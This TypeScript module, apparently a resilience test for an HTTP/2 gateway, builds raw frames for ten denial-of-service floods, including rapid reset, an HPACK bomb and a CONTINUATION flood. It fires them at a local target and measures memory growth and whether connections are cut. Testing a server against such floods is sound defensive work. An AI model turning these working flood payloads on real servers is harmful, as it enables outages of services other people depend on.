/** HTTP/2 clients that cost more than they ask for. Frames are written as bytes: no library sends these. */
import { connect, type Socket } from "node:net";
import { setImmediate as turn } from "node:timers/promises";
import type { Target } from "./target.ts";
import { pause } from "../support/pause.ts";

/** A flood of pieces that cost the server more than the client. */
export interface Flood {
  readonly name: string;
  /** The n-th piece that is sent. */
  readonly piece: (n: number, host: string) => Buffer;
}

/** What a flood did. */
export interface Flooded {
  /** The number of pieces that were sent. */
  readonly sent: number;
  /** Whether the gateway ended a connection. */
  readonly cut: boolean;
  /** The most memory that the gateway took beyond what it had before. */
  readonly grownBytes: number;
}

/** The types of frames and the codes of errors (RFC 9113 §6, §7). */
const TYPE = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  more: 9,
} as const;
const END_STREAM = 1;
const END_HEADERS = 4;
/** The bytes that begin a connection (RFC 9113 §3.4). */
export const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/** A frame (RFC 9113 §4.1). */
export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The header block of a request (RFC 7541): each field is a literal without indexing, shorter than 127 bytes. */
export function requestBlock(host: string, path: string, method = "GET"): Buffer {
  const literal = (index: number, value: string): Buffer =>
    Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]);
  return Buffer.concat([literal(2, method), literal(4, path), literal(6, "http"), literal(1, host)]);
}

const request = (n: number, host: string, flags = END_STREAM | END_HEADERS): Buffer =>
  frame(TYPE.headers, flags, 2 * n + 1, requestBlock(host, "/slow?ms=50"));
const reset = (n: number): Buffer => frame(TYPE.reset, 0, 2 * n + 1, Buffer.from([0, 0, 0, 8]));
const open = (n: number, host: string): Buffer =>
  n === 0 ? frame(TYPE.headers, END_HEADERS, 1, requestBlock(host, "/slow?ms=5000", "POST")) : Buffer.alloc(0);

/** A header block that puts an entry into the dynamic table, and then refers to it as often as a frame allows. */
function bomb(n: number, host: string): Buffer {
  const value = Buffer.alloc(3_000, 0x61);
  const length = Buffer.from([0x7f, ...varint(value.length - 127)]);
  const entry = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from("x"), length, value]);
  const block = Buffer.concat([requestBlock(host, "/"), n === 0 ? entry : Buffer.alloc(0), Buffer.alloc(8_000, 0xbe)]);
  return frame(TYPE.headers, END_STREAM | END_HEADERS, 2 * n + 1, block);
}

function varint(value: number): number[] {
  const bytes: number[] = [];
  for (let rest = value; ; rest >>= 7) {
    if (rest < 128) return [...bytes, rest];
    bytes.push((rest & 127) | 128);
  }
}

/** All floods. */
export const FLOODS: readonly Flood[] = [
  { name: "rapid reset", piece: (n, host) => Buffer.concat([request(n, host), reset(n)]) },
  // Each request is reset when a hundred later ones have been sent: it is under way by then.
  {
    name: "late reset",
    piece: (n, host) => Buffer.concat([request(n, host), n < 100 ? Buffer.alloc(0) : reset(n - 100)]),
  },
  { name: "HPACK bomb", piece: bomb },
  {
    name: "header flood",
    piece: (n, host) => {
      const fields = Array.from({ length: 500 }, (_, at) =>
        Buffer.from([0, 5, ...Buffer.from(`x${1_000 + at}`), 1, 0x61]),
      );
      return frame(
        TYPE.headers,
        END_STREAM | END_HEADERS,
        2 * n + 1,
        Buffer.concat([requestBlock(host, "/"), ...fields]),
      );
    },
  },
  {
    name: "CONTINUATION flood",
    piece: (n, host) =>
      n === 0 ? request(0, host, END_STREAM) : frame(TYPE.more, 0, 1, Buffer.from([0, 1, 0x78, 1, 0x61])),
  },
  { name: "SETTINGS flood", piece: () => frame(TYPE.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])) },
  { name: "PING flood", piece: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)) },
  { name: "PRIORITY flood", piece: (n) => frame(TYPE.priority, 0, 2 * n + 1, Buffer.from([0, 0, 0, 0, 1])) },
  { name: "empty DATA flood", piece: (n, host) => Buffer.concat([open(n, host), frame(TYPE.data, 0, 1)]) },
  {
    name: "WINDOW_UPDATE flood",
    piece: (n, host) => Buffer.concat([open(n, host), frame(TYPE.window, 0, 1, Buffer.from([0, 0, 0, 1]))]),
  },
];

/** Sends `count` pieces over one connection after the other, each of which lasts as long as the gateway lets it. */
export async function flood(
  target: Target,
  { name, piece }: Flood,
  bounds: { readonly count: number; readonly limitMs: number; readonly connections: number },
): Promise<Flooded> {
  const before = target.residentBytes();
  let [sent, most, cut] = [0, before, false];
  const sampling = setInterval(() => (most = Math.max(most, target.residentBytes())), 50);
  const end = performance.now() + bounds.limitMs;
  for (let left = bounds.connections; left > 0 && sent < bounds.count && performance.now() < end; left--) {
    const socket = connect({ host: "127.0.0.1", port: target.http2Port, noDelay: true });
    socket.on("error", () => undefined);
    const hasEnded = acknowledge(socket);
    await first(socket, "connect", "close");
    socket.write(Buffer.concat([Buffer.from(PREFACE), frame(TYPE.settings, 0, 0)]));
    for (let n = 0; sent < bounds.count && !socket.destroyed && performance.now() < end;) {
      const batch: Buffer[] = [];
      for (let each = 0; each < 50 && sent < bounds.count; each++, n++, sent++) batch.push(piece(n, target.host));
      if (!socket.write(Buffer.concat(batch))) await first(socket, "drain", "close");
      // Batches are spread over turns of the event loop, so that the server reads each by itself.
      await (name === "late reset" ? pause(2, "Late resets are spread over time.") : turn());
    }
    await Promise.race([
      pause(300, "A server that does not end the connection sends no event."),
      first(socket, "close"),
    ]);
    cut ||= hasEnded();
    socket.destroy();
  }
  clearInterval(sampling);
  return { sent, cut, grownBytes: Math.max(most, target.residentBytes()) - before };
}

/** Resolves with the first of these events, or at once when it is closed. */
function first(socket: Socket, ...events: readonly string[]): Promise<void> {
  if (socket.destroyed) return Promise.resolve();
  return new Promise((resolve) => {
    const over = (): void => {
      for (const event of events) socket.off(event, over);
      resolve();
    };
    for (const event of events) socket.once(event, over);
  });
}

/**
 * Acknowledges settings, since a peer that does not is cut for that. Returns a function that says whether the gateway has
 * ended the connection.
 */
function acknowledge(socket: Socket): () => boolean {
  let rest = Buffer.alloc(0);
  let isEnded = false;
  for (const over of ["end", "close"]) socket.once(over, () => (isEnded = true));
  socket.on("data", (bytes: Buffer) => {
    rest = Buffer.concat([rest, bytes]);
    for (;;) {
      const length = rest.length < 9 ? Number.POSITIVE_INFINITY : rest.readUIntBE(0, 3);
      if (rest.length < 9 + length) return;
      const [type, flags] = [rest.readUInt8(3), rest.readUInt8(4)];
      if (type === TYPE.settings && flags === 0) socket.write(frame(TYPE.settings, 1, 0));
      rest = rest.subarray(9 + length);
    }
  });
  return () => isEnded;
}
